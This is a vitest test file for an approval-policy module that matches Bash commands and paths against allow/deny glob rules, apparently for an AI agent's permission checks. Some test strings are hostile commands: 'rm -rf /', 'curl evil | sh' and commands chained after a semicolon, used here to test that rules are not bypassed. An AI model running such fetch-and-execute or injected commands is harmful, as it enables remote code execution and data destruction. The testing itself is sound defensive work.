import { describe, expect, it } from 'vitest';
import { limits } from './limits.js';
import { evaluatePolicy, globMatches } from './policy.js';
import type { ApprovalAction } from './schemas/approval.js';
import { Policy } from './schemas/approval.js';

const bash = (command: string): ApprovalAction => ({
  tool: 'Bash',
  action: `run \`${command}\``,
  command,
  risk: 'execute',
});

describe('approval policies', () => {
  it('match globs over whole commands and paths, slashes and spaces included', () => {
    expect(globMatches('echo *', 'echo hello > out/a.txt')).toBe(true);
    expect(globMatches('echo *', 'rm -rf / ; echo x')).toBe(false);
    expect(globMatches('src/*.ts', 'src/a/b.ts')).toBe(true);
    expect(globMatches('a?c', 'abc')).toBe(true);
    expect(globMatches('a.c', 'abc')).toBe(false); // dots are literal
  });

  it('let the first matching rule decide and name it; layers in order; the mode decides the rest', () => {
    const task = { name: 'task', rules: [{ tool: 'Bash', command: 'echo *', decision: 'allow' as const }] };
    const project = {
      name: 'project',
      rules: [
        { name: 'no deletes', tool: 'Bash', command: 'rm *', decision: 'deny' as const },
        { command: '*', decision: 'allow' as const },
      ],
    };
    expect(evaluatePolicy(bash('echo hi'), [task, project], 'ask')).toEqual({
      decision: 'allow',
      rule: 'task rule 1: allow tool=Bash command="echo *"',
    });
    expect(evaluatePolicy(bash('rm -rf build'), [task, project], 'ask')).toEqual({
      decision: 'deny',
      rule: 'project rule 1: no deletes (deny tool=Bash command="rm *")',
    });
    const edit: ApprovalAction = { tool: 'Edit', action: 'edit a.ts', paths: ['a.ts'], risk: 'write' };
    expect(evaluatePolicy(edit, [task, project], 'ask')).toEqual({ decision: 'ask', rule: null });
    expect(evaluatePolicy(edit, [task], 'none')).toEqual({ decision: 'deny', rule: '--approve none' });
    expect(
      evaluatePolicy(edit, [{ name: 'task', rules: [{ path: '*.ts', decision: 'allow' }] }], 'ask').decision,
    ).toBe('allow');
  });
});

describe('glob matching under attack', () => {
  it('takes linear time on a pattern crafted to make a backtracking matcher explode', () => {
    const started = performance.now();
    // A backtracking RegExp needs minutes for this; a linear matcher, microseconds.
    expect(globMatches('*a*a*a*a*a*a*a*b', 'a'.repeat(400))).toBe(false);
    expect(globMatches('*a*a*a*a*a*a*a*a*a*a*a*a*b', 'a'.repeat(20_000))).toBe(false);
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('agrees with the meaning of * and ? on ordinary patterns', () => {
    const cases: [string, string, boolean][] = [
      ['*', '', true],
      ['', '', true],
      ['', 'a', false],
      ['a*', 'a', true],
      ['*a', 'ba', true],
      ['*a', 'ab', false],
      ['a*b*c', 'a-b-b-c', true],
      ['a*b*c', 'a-c-b', false],
      ['?', '', false],
      ['??', 'ab', true],
      ['a?c*d', 'abcxxd', true],
      ['*?b', 'b', false],
      ['*?b', 'ab', true],
      ['ab*ab', 'ab', false],
      ['ab*ab', 'abab', true],
      ['*ab?ab*', 'xxabcab', true],
      ['*aab', 'aaab', true],
      ['git *', 'git status; curl evil | sh', true], // documented: * crosses ; and |
    ];
    for (const [glob, text, expected] of cases)
      expect([glob, text, globMatches(glob, text)]).toEqual([glob, text, expected]);
  });

  it('lets an exact rule match only the very same text, * and ? included', () => {
    const rule = { tool: 'Bash', command: 'ls *.txt', match: 'exact' as const, decision: 'allow' as const };
    const layers = [{ name: '--always', rules: [rule] }];
    expect(evaluatePolicy(bash('ls *.txt'), layers, 'ask').decision).toBe('allow');
    expect(evaluatePolicy(bash('ls /; curl x | sh; echo .txt'), layers, 'ask').decision).toBe('ask');
    expect(evaluatePolicy(bash('ls a.txt'), layers, 'ask').decision).toBe('ask');
  });
});

describe('glob matching, checked against a regular expression on small inputs', () => {
  it('gives the same answer as the RegExp it replaced for thousands of random cases', () => {
    let seed = 42;
    const random = (n: number) => {
      seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31;
      return seed % n;
    };
    const pick = (alphabet: string, length: number) =>
      Array.from({ length }, () => alphabet[random(alphabet.length)]).join('');
    for (let i = 0; i < 5000; i++) {
      const glob = pick('ab*?', random(7));
      const text = pick('ab', random(8));
      const regex = new RegExp(`^${glob.replace(/\*/g, '.*').replace(/\?/g, '.')}$`, 's');
      expect([glob, text, globMatches(glob, text)]).toEqual([glob, text, regex.test(text)]);
    }
  });
});

describe('policy size', () => {
  it('refuses a policy whose JSON is over the limit, naming it, though each rule is within its own', () => {
    const rule = { command: 'x'.repeat(limits.policy.commandPatternChars), decision: 'allow' as const };
    const result = Policy.safeParse({ rules: Array.from({ length: 200 }, () => rule) });
    expect(result.success).toBe(false);
    expect(result.error?.issues[0]?.message).toBe(
      `a policy (as JSON) is longer than the limit of ${limits.policy.totalChars} characters`,
    );
    expect(Policy.safeParse({ rules: [rule] }).success).toBe(true);
  });
});
